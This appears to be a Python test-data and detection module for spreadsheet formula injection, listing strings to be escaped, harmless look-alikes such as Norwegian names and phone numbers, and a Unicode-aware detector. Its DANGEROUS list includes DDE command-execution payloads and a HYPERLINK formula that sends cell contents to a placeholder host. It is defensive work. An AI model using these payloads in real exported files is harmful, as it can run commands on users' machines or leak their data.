"""Payloads: texts that a spreadsheet would take for a formula, and texts that only look like it."""

import unicodedata

#: What stands in front of a formula and does not show.
_BLANKS = {
    "blank": " ",
    "no-break blank": "\u00a0",
    "narrow no-break blank": "\u202f",
    "ideographic blank": "\u3000",
    "ogham blank": "\u1680",
    "line separator": "\u2028",
    "zero-width blank": "\u200b",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "soft hyphen": "\u00ad",
    "right-to-left mark": "\u200f",
    "left-to-right override": "\u202d",
    "grapheme joiner": "\u034f",
    "hangul filler": "\u3164",
    "half-width hangul filler": "\uffa0",
    "braille blank": "\u2800",
    "variation selector": "\ufe0f",
    "quote": '"',
    "full-width quote": "＂",
    "several": ' \u00a0"\u200b',
}
_CONTROLS = {"tab": "\t", "CR": "\r", "LF": "\n", "NUL": "\x00", "vertical tab": "\x0b", "next line": "\x85"}
#: Each must get an apostrophe.
DANGEROUS: dict[str, str] = {
    "sum": "=1+1",
    "sign alone": "=",
    "dde": "=cmd|' /C calc'!A0",
    "dde by function": "=DDE(1)",
    "link": '=HYPERLINK("http://x?"&A1,"y")',
    "plus": "+1+1",
    "plus two": "+1+2",
    "plus with a country": "+47*cmd",
    "plus brackets": "+(47)",
    "minus": "-1+1|cmd",
    "minus a cell": "-A1",
    "minus dde": "-2+3+cmd|' /C calc'!D2",
    "minus words": "- et punkt",
    "minus money": "-5 kr",
    "minus alone twice": "--",
    "plus alone": "+",
    "telephone that is a sum": "+47-900-00-000",
    "telephone with a function": "+47 900 00 000 =1+1",
    "telephone on two lines": "+4790000000\n=1+1",
    "number on two lines": "-5\n",
    "power of a power": "-1e5e5",
    "at": "@SUM(A1)",
    "at alone": "@",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width plus number": "＋47",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "small equals": "﹦1+1",
    "small plus": "﹢1+1",
    "small minus": "﹣1+1",
    "small at": "﹫SUM(A1)",
    "raised plus": "⁺1+1",
    "lowered equals": "₌1+1",
    "doubled equals": "⩵1+1",
    **{f"{name} in front": f"{sign}=1+1" for name, sign in (_BLANKS | _CONTROLS).items()},
    **{f"{name} in front of full-width": f"{sign}＠A" for name, sign in _BLANKS.items()},
    **{f"{name} in front of text": f"{sign}tekst" for name, sign in _CONTROLS.items()},
    **{f"{name} behind a blank": f" {sign}=1+1" for name, sign in _CONTROLS.items()},
}
#: None may change.
HARMLESS: dict[str, str] = {
    "nothing": "",
    "name": "Kari",
    "Norwegian name": "Åse Ødegård",
    "Sami name": "Čáhput",
    "sign inside": "1+1",
    "assignment": "a=b",
    "address": "x@y.no",
    "quoted": '"Kari"',
    "guarded before": "'=1+1",
    "leading zeros": "0301",
    "code with a dash": "A-1",
    "integer": "-5",
    "comma": "-12,5",
    "plus comma": "+3,5",
    "point": "-3.5",
    "no whole part": "-,5",
    "thousands": "-1.234,50",
    "thousands by blank": "-1 234,50",
    "thousands by no-break blank": "-1\u00a0000",
    "thousands by thin blank": "-1\u2009000",
    "per cent": "-5 %",
    "per cent close": "+12,5%",
    "per mille": "-5 ‰",
    "power": "-1,5e-7",
    "sign apart": "- 5",
    "blanks around": " -5 ",
    "dash": "-",
    "en dash": "–",
    "telephone": "+47 22 33 44 55",
    "telephone in one": "+4722334455",
    "telephone by three": "+47 900 00 000",
    "telephone by points": "+47.22.33.44.55",
    "telephone in brackets": "(+47) 22 33 44 55",
    "telephone with marks": "\u202a+47 900 00 000\u202c",
    "telephone from abroad": "0047 22334455",
}
_FILLERS = "\u034f\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0" + "".join(map(chr, range(0xFE00, 0xFE10)))


def reads_as_a_formula(cell: str) -> bool:
    """Whether a spreadsheet might take it for one.

    Digits with one sign in front are a number or a telephone number, and a dash alone says that there is none.
    """
    return begins_like_a_formula(cell) and not _is_number(cell)


def begins_like_a_formula(cell: str) -> bool:
    """Whether a sign or a control character comes behind what does not show and behind quotes."""
    seen = "".join(sign for sign in cell if not _is_unseen(sign)).lstrip('"＂')
    if not seen:
        return False
    first = unicodedata.normalize("NFKC", seen[0])[0]
    return first in {"=", "+", "-", "@"} or unicodedata.category(first) == "Cc"


def _is_unseen(sign: str) -> bool:
    return unicodedata.category(sign) in {"Zs", "Zl", "Zp", "Cf"} or sign in _FILLERS


def _is_number(cell: str) -> bool:
    """Whether nothing is left that could be an operation, a name or a call."""
    if any(unicodedata.category(sign) not in {"Zs", "Cf"} for sign in cell if _is_unseen(sign)):
        return False
    seen = "".join(sign for sign in cell if not _is_unseen(sign))
    if seen == "-":
        return True
    if seen[:1] not in {"+", "-"}:
        return False
    digits, _, power = seen[1:].rstrip("%‰").lower().partition("e")
    power = power[1:] if power[:1] in {"+", "-"} else power
    return bool(digits) and set(digits) <= set("0123456789.,") and set(power) <= set("0123456789")
